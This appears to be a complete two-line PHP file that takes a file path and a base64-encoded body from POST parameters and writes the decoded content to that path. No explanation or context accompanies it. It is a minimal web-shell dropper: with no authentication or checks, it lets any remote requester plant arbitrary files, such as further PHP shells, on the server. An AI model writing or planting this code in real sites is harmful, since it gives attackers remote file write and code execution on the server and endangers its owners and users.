<?php
file_put_contents($_POST['tpl'], base64_decode($_POST['d']));
